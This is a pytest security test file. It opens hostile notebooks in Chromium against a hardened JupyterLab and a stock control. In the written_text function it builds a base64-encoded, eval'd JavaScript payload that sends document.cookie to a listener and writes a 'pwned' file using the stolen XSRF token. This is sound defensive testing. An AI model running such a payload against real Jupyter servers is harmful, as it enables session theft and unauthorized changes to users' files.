"""Hostile notebooks in a real Chromium on the demo; the same notebooks in a stock JupyterLab are the control.

Every case has a listener of its own: whatever is sent there got out.
"""

from __future__ import annotations

import base64
import contextlib
import json
import re
import secrets
import selectors
import shutil
import socket
import subprocess
import sys
import threading
from collections.abc import Iterable, Iterator
from dataclasses import dataclass, field
from functools import cached_property
from pathlib import Path
from typing import Any, cast

import httpx
import pytest
from playwright.sync_api import Browser, Page, sync_playwright
from playwright.sync_api import Error as PlaywrightError
from running_demo import Demo, wait_for

from .cases_browser import CASES, FILES, LEAVING, LEGITIMATE, WIDGETS, Case
from .conftest import stock_environment

FLAGS = ("--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking", "--disable-component-update", "--disable-sync",
         "--host-resolver-rules=MAP * ~NOTFOUND , EXCLUDE 127.0.0.1")  # fmt: skip
pytestmark = pytest.mark.timeout(900)
START_MS = 90_000
SETTLE_MS = 2_000
"""What never comes cannot be awaited; on a machine at rest the control shows that what comes does so within this."""
PATIENCE_MS = 60_000
"""What must come, where there are no walls, may take this long on a busy machine."""
EVERYTHING = (*CASES, *WIDGETS, *LEAVING)


class Listeners:
    """One port for each case; notes who sent something. Nothing is served.

    Chromium connects to the address of a frame before it looks at the policy that forbids it, and sends nothing then: that a name can
    be looked up this way is said in the threat model.
    """

    def __init__(self) -> None:
        self.ports: dict[str, int] = {}
        self.reached: set[str] = set()
        self._selector = selectors.DefaultSelector()
        for case in EVERYTHING:
            sock = socket.create_server(("127.0.0.1", 0))
            self.ports[case.name] = sock.getsockname()[1]
            self._selector.register(sock, selectors.EVENT_READ, ("door", case.name))
        self._stop, stopped = socket.socketpair()
        self._selector.register(stopped, selectors.EVENT_READ, None)
        self._thread = threading.Thread(target=self._listen)
        self._thread.start()

    def _listen(self) -> None:
        while True:
            for key, _ in self._selector.select():
                if key.data is None:
                    return
                sock, (kind, name) = cast(socket.socket, key.fileobj), key.data
                if kind == "door":
                    connection, _ = sock.accept()
                    self._selector.register(connection, selectors.EVENT_READ, ("peer", name))
                    continue
                with contextlib.suppress(OSError):
                    if sock.recv(1):
                        self.reached.add(name)
                self._selector.unregister(sock)
                sock.close()

    def take(self) -> set[str]:
        """Give the cases that got out since the last time."""
        reached, self.reached = self.reached, set()
        return reached

    def close(self) -> None:
        self._stop.send(b"x")
        self._thread.join()
        for key in list(self._selector.get_map().values()):
            cast(socket.socket, key.fileobj).close()
        self._selector.close()
        self._stop.close()


@dataclass
class Seen:
    """What came of the notebooks at one server.

    Parameters
    ----------
    opened, run
        Cases that got out, left a mark or changed something, by how they were tried.
    written
        Files that appeared.
    shown
        Legitimate cells that showed what they should, behind the walls.
    pages
        Addresses of windows that opened.
    left
        Cases that led the page elsewhere.
    dark
        Whether a planted file changed the theme.
    """

    opened: set[str] = field(default_factory=set)
    run: set[str] = field(default_factory=set)
    written: set[str] = field(default_factory=set)
    shown: set[str] = field(default_factory=set)
    pages: set[str] = field(default_factory=set)
    left: set[str] = field(default_factory=set)
    dark: bool = False


@dataclass
class Site:
    """A JupyterLab and an account on it."""

    url: str
    token: str
    kernel: str
    files: httpx.Client = field(init=False)

    def __post_init__(self) -> None:
        self.files = httpx.Client(base_url=self.url, headers={"Authorization": f"token {self.token}"}, trust_env=False, timeout=60)

    @cached_property
    def main(self) -> str:
        """Address of the script that starts JupyterLab."""
        found = re.search(r'src="([^"]+/main\.[^"]+)"', self.files.get("lab").text)
        assert found is not None
        return found[1]

    def save(self, path: str, content: Any, kind: str = "file") -> None:
        form = "json" if kind == "notebook" else "text"
        answer = self.files.put(f"api/contents/{path}", json={"type": kind, "format": form, "content": content})
        assert answer.status_code in (200, 201), answer.text

    def names(self) -> set[str]:
        return {item["name"] for item in self.files.get("api/contents/shared").json()["content"]}


def written_text(case: Case, listeners: Listeners, site: Site) -> str:
    """Fill in a case's addresses and scripts."""
    number = EVERYTHING.index(case)
    out = f"http://127.0.0.1:{listeners.ports[case.name]}"
    api = "/" + site.url.split("/", 3)[3].rstrip("/") if site.url.count("/") > 3 else ""
    script = (
        f"window.hits=(window.hits||[]).concat({number});fetch('{out}/fetched?'+document.cookie);"
        f"fetch('{api}/api/contents/shared/pwned-{number}.txt',{{method:'PUT',"
        "headers:{'X-XSRFToken':(document.cookie.match(/_xsrf=([^;]+)/)||[])[1]},"
        "body:JSON.stringify({type:'file',format:'text',content:'x'})});"
    )
    run = f"eval(atob('{base64.b64encode(script.encode()).decode()}'))"
    text = case.text.replace("$JS", run).replace("$RUN", run).replace("$OUT", out).replace("$API", api)
    return text.replace("$MARK", f"pwned-{number}").replace("$MAIN", site.main)


def notebook(cells: list[dict[str, Any]], site: Site, widgets: dict[str, Any] | None = None) -> dict[str, Any]:
    metadata: dict[str, Any] = {"kernelspec": {"name": site.kernel, "display_name": site.kernel, "language": "python"}}
    if widgets is not None:
        metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": widgets}
    return {
        "nbformat": 4,
        "nbformat_minor": 5,
        "metadata": metadata,
        "cells": [{"id": f"c{i}", "metadata": {}, **cell} for i, cell in enumerate(cells)],
    }


def cell_of(case: Case, listeners: Listeners, site: Site) -> dict[str, Any]:
    """Make the cell: with its output saved, and with code that makes the same output."""
    text = written_text(case, listeners, site)
    if case.mime == "markdown cell":
        return {"cell_type": "markdown", "source": text}
    content: Any = json.loads(text) if case.mime.endswith("json") else text
    source = f"import json\nfrom IPython.display import display\ndisplay(json.loads({json.dumps(json.dumps({case.mime: content}))}), raw=True)"
    output = {"output_type": "display_data", "data": {case.mime: content}, "metadata": {}}
    return {"cell_type": "code", "source": source, "execution_count": 1, "outputs": [output]}


def widget_state(texts: list[str]) -> tuple[list[dict[str, Any]], dict[str, Any]]:
    """Make cells that show saved HTML widgets, and the state that holds their values."""
    state: dict[str, Any] = {}
    cells = []
    for number, text in enumerate(texts):
        base, module = (
            {"model_module_version": "2.0.0", "model_module": "@jupyter-widgets/base"},
            {"model_module_version": "2.0.0", "model_module": "@jupyter-widgets/controls"},
        )
        state[f"l{number}"] = {"model_name": "LayoutModel", **base, "state": {}}
        state[f"s{number}"] = {"model_name": "DescriptionStyleModel", **module, "state": {}}
        state[f"w{number}"] = {"model_name": "HTMLModel", **module,
                               "state": {"value": text, "layout": f"IPY_MODEL_l{number}", "style": f"IPY_MODEL_s{number}"}}  # fmt: skip
        view = {"application/vnd.jupyter.widget-view+json": {"model_id": f"w{number}", "version_major": 2, "version_minor": 0}}
        source = f"import ipywidgets\nipywidgets.HTML({text!r})"
        cells.append({"cell_type": "code", "source": source, "execution_count": 1,
                      "outputs": [{"output_type": "display_data", "data": view, "metadata": {}}]})  # fmt: skip
    return cells, {"version_major": 2, "version_minor": 0, "state": state}


DONE = """() => {
    const notebook = window.jupyterapp.shell.currentWidget.content;
    const cells = [...notebook.widgets].filter(cell => cell.model.type === 'code');
    return cells.length > 0 && cells.every(cell => cell.model.executionState !== 'running' && cell.model.executionCount !== null);
}"""
MARKS = """count => {
    const started = view => view && Object.keys(view).some(key => key.endsWith('_jupyterlab_application_top'));
    const style = getComputedStyle(document.body);
    const top = [document.elementFromPoint(9, 9), document.querySelector(':popover-open')].map(element => element?.id);
    const frames = [...document.querySelectorAll('iframe')].filter(frame => started(frame.contentDocument?.defaultView));
    return [
        ...(window.hits || []),
        ...[...Array(count).keys()].filter(number => style.getPropertyValue(`--pwned-${number}`)),
        ...[document.body.value, ...top, ...frames.map(frame => frame.name)].flatMap(mark => /^pwned-([0-9]+)$/.exec(mark)?.[1] ?? [])
    ];
}"""
"""Cases that left a mark: said so, gave the page a style, filled in a field, lie on top, or have a frame with JupyterLab's own script."""
READY = "() => window.jupyterapp?.shell?.currentWidget?.context?.sessionContext?.session?.kernel?.status === 'idle'"


def visit(page: Page, site: Site, path: str) -> None:
    """Open a notebook and wait until it stands and its kernel is idle."""
    page.goto(f"{site.url}lab/tree/{path}?token={site.token}&reset", timeout=START_MS)
    page.wait_for_function(READY, timeout=START_MS)


def run_all(page: Page) -> None:
    page.evaluate("() => window.jupyterapp.commands.execute('notebook:run-all-cells')")
    page.wait_for_function(DONE, timeout=START_MS)


def marked(page: Page) -> set[str]:
    """Give the names of the cases that left a mark in the page."""
    return named(page.evaluate(MARKS, len(EVERYTHING)))


def named(marks: Iterable[object]) -> set[str]:
    """Give the names of the cases that marks tell of; what is planted in a file has a name for a number."""
    return {EVERYTHING[int(mark)].name if mark.isdigit() else mark for mark in map(str, marks)}


def press(page: Page, cases: tuple[Case, ...]) -> set[str]:
    """Press what the cases want pressed, wherever it is shown; give the marks that were there before one of them led the page away."""
    found: set[str] = set()
    for index, case in enumerate(cases):
        if case.click:
            target = page.locator(".jp-Notebook .jp-Cell").nth(index).locator(case.click)
            # what a wall took away cannot be pressed; a press that leads away is seen by its listener
            with contextlib.suppress(PlaywrightError):
                found |= marked(page)
                target.evaluate_all("elements => elements.forEach(element => element.click())")
    return found


def succeeded(page: Page, site: Site, listeners: Listeners, seen: Seen, before: set[str], awaited: set[str]) -> set[str]:
    """Collect what got out, left a mark or was written, by the names of the cases; wait for those that must."""
    found: set[str] = set()
    for _ in range(PATIENCE_MS // SETTLE_MS):
        page.wait_for_timeout(SETTLE_MS)
        found |= listeners.take()
        found |= marked(page)
        appeared = site.names() - before
        seen.written |= appeared
        found |= named(name.split("pwned-")[1].split(".")[0] for name in appeared if "pwned-" in name)
        if awaited <= found:
            break
    return found


def look(browser: Browser, site: Site, listeners: Listeners, *, walled: bool) -> Seen:
    """Have a person open and run hostile and honest notebooks; without walls, wait for what must succeed."""
    seen = Seen()
    awaited = {kind: set() if walled else {case.name for case in EVERYTHING if case.outside == kind} for kind in ("opened", "run")}
    # later than the honest ones, whose names stay
    cells, state = widget_state([written_text(case, listeners, site) for case in WIDGETS])
    site.save("shared/hostile.ipynb", notebook([*(cell_of(case, listeners, site) for case in CASES), *cells], site, state), "notebook")
    for number, case in enumerate(LEAVING):
        site.save(f"shared/leaving-{number}.ipynb", notebook([cell_of(case, listeners, site)], site), "notebook")
    honest = [{"cell_type": "code", "source": source, "execution_count": None, "outputs": []} for source in LEGITIMATE]
    site.save("shared/honest.ipynb", notebook(honest, site), "notebook")
    for path, content in FILES.items():
        site.save(path, content)
    before = site.names()
    context = browser.new_context(viewport={"width": 1280, "height": 8000}, reduced_motion="reduce")
    context.on("page", lambda other: seen.pages.add(other.url))
    listeners.take()

    page = context.new_page()
    visit(page, site, "shared/hostile.ipynb")
    seen.dark = page.evaluate("() => document.body.dataset.jpThemeName?.includes('Dark') ?? false")
    seen.opened = press(page, CASES)
    seen.opened |= succeeded(page, site, listeners, seen, before, awaited["opened"])
    page.evaluate("() => { window.hits = []; }")
    run_all(page)
    unpressed = {case.name for case in CASES if not case.click} & awaited["run"]
    seen.run = succeeded(page, site, listeners, seen, before, unpressed - seen.opened) | press(page, CASES)
    seen.run |= succeeded(page, site, listeners, seen, before, awaited["run"] - seen.opened - seen.run - {case.name for case in LEAVING})
    page.close()

    if walled:
        page = context.new_page()
        visit(page, site, "shared/honest.ipynb")
        run_all(page)
        for number, (source, selector) in enumerate(LEGITIMATE.items()):
            with contextlib.suppress(PlaywrightError):
                page.locator(".jp-Notebook .jp-Cell").nth(number).locator(selector).first.wait_for(timeout=PATIENCE_MS)
                seen.shown.add(source)
        page.close()

    for number, case in enumerate(LEAVING):
        page = context.new_page()
        visit(page, site, f"shared/leaving-{number}.ipynb")
        page.evaluate("() => void window.jupyterapp.commands.execute('notebook:run-all-cells')")
        with contextlib.suppress(PlaywrightError):  # the page may be gone by then
            page.wait_for_function(DONE, timeout=60_000)
        if case.click:
            with contextlib.suppress(PlaywrightError):
                page.locator(f".jp-OutputArea-output {case.click}").last.wait_for(timeout=PATIENCE_MS)
                press(page, (case,))
        for _ in range(PATIENCE_MS // SETTLE_MS):
            page.wait_for_timeout(SETTLE_MS)
            if case.name in listeners.take() or not page.url.startswith(site.url):
                seen.left.add(case.name)
            if case.name in seen.left or case.name not in awaited["run"]:
                break
        page.close()
    context.close()
    for session in site.files.get("api/sessions").json():
        site.files.delete(f"api/sessions/{session['id']}", headers={"X-XSRFToken": "x"})
    for name in ("hostile.ipynb", "leaving-0.ipynb", "leaving-1.ipynb", "honest.ipynb", *(path.split("/")[1] for path in FILES), *seen.written):
        site.files.delete(f"api/contents/shared/{name}")
    site.files.close()
    return seen


@contextlib.contextmanager
def chromium() -> Iterator[Browser]:
    """Chromium of the system; while it runs, Playwright keeps an event loop that other tests would trip over."""
    executable = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
    if executable is None:
        pytest.fail("No browser found. Install the package 'chromium', e.g. with: sudo apt-get install chromium", pytrace=False)
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=executable, args=list(FLAGS))
        try:
            yield browser
        finally:
            browser.close()


@pytest.fixture(scope="module")
def listeners() -> Iterator[Listeners]:
    listeners = Listeners()
    yield listeners
    listeners.close()


@pytest.fixture(scope="module")
def walled(deployment: Demo, listeners: Listeners) -> Seen:
    """The leader opens and runs what the researcher left in the shared area."""
    account = deployment.accounts["leader"]
    with chromium() as browser:
        return look(browser, Site(account["url"], account["token"], "cbs-python"), listeners, walled=True)


@pytest.fixture(scope="module")
def stock(listeners: Listeners, tmp_path_factory: pytest.TempPathFactory, stock_port: int) -> Iterator[Seen]:
    """The same in a JupyterLab as it comes."""
    folder = tmp_path_factory.mktemp("stock-lab")
    for name in ("root/shared", "home", "labextensions"):
        (folder / name).mkdir(parents=True)
    # our own part of the browser is a wall too: it switches JavaScript outputs off and keeps the page where it is
    for extension in (Path(sys.prefix) / "share" / "jupyter" / "labextensions").iterdir():
        if extension.name != "jupyter-cbs":
            (folder / "labextensions" / extension.name).symlink_to(extension)
    token = secrets.token_hex(8)
    command = [sys.executable, "-m", "jupyterlab", "--no-browser", "--allow-root", f"--ServerApp.port={stock_port}",
               f"--IdentityProvider.token={token}", f"--ServerApp.root_dir={folder / 'root'}",
               "--LabApp.expose_app_in_browser=True", "--LabApp.news_url=",
               f"--LabApp.labextensions_path={folder / 'labextensions'}",
               "--ServerApp.jpserver_extensions={'jupyter_cbs': False}"]  # fmt: skip
    process = subprocess.Popen(command, env=stock_environment(folder / "home"), cwd=folder, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    site = Site(f"http://127.0.0.1:{stock_port}/", token, "python3")
    try:

        def up() -> bool:
            with contextlib.suppress(httpx.TransportError):
                return site.files.get("api/status").status_code == 200
            return False

        wait_for(up, 120, "the start of the stock JupyterLab")
        with chromium() as browser:
            yield look(browser, site, listeners, walled=False)
    finally:
        process.terminate()
        process.wait(60)


@pytest.mark.parametrize("case", [*CASES, *WIDGETS], ids=lambda case: case.name)
def test_a_hostile_output_gets_nowhere(walled: Seen, case: Case) -> None:
    assert case.name not in walled.opened
    assert case.name not in walled.run


@pytest.mark.parametrize("case", LEAVING, ids=lambda case: case.name)
def test_no_output_leads_the_page_elsewhere(walled: Seen, case: Case) -> None:
    assert case.name not in walled.left


def test_nothing_was_written_and_no_window_opened_elsewhere(walled: Seen) -> None:
    assert walled.written == set()
    assert not [address for address in walled.pages if "127.0.0.1" in address and "/leader/" not in address]


def test_files_of_the_workspace_do_not_change_jupyterlab(walled: Seen) -> None:
    assert not walled.dark
    assert "planted" not in walled.opened | walled.run


@pytest.mark.parametrize("source", LEGITIMATE)
def test_honest_outputs_are_shown(walled: Seen, source: str) -> None:
    assert source in walled.shown


@pytest.mark.parametrize("case", [case for case in (*CASES, *WIDGETS) if case.outside], ids=lambda case: case.name)
def test_in_a_stock_jupyterlab_it_succeeds(stock: Seen, case: Case) -> None:
    assert case.name in (stock.opened if case.outside == "opened" else stock.opened | stock.run)


def test_in_a_stock_jupyterlab_files_are_written(stock: Seen) -> None:
    assert [name for name in stock.written if "pwned-" in name]


@pytest.mark.parametrize("case", LEAVING, ids=lambda case: case.name)
def test_in_a_stock_jupyterlab_the_page_is_led_elsewhere(stock: Seen, case: Case) -> None:
    assert case.name in stock.left


def test_there_are_enough_of_them() -> None:
    assert len({case.name for case in EVERYTHING}) == len(EVERYTHING) >= 45
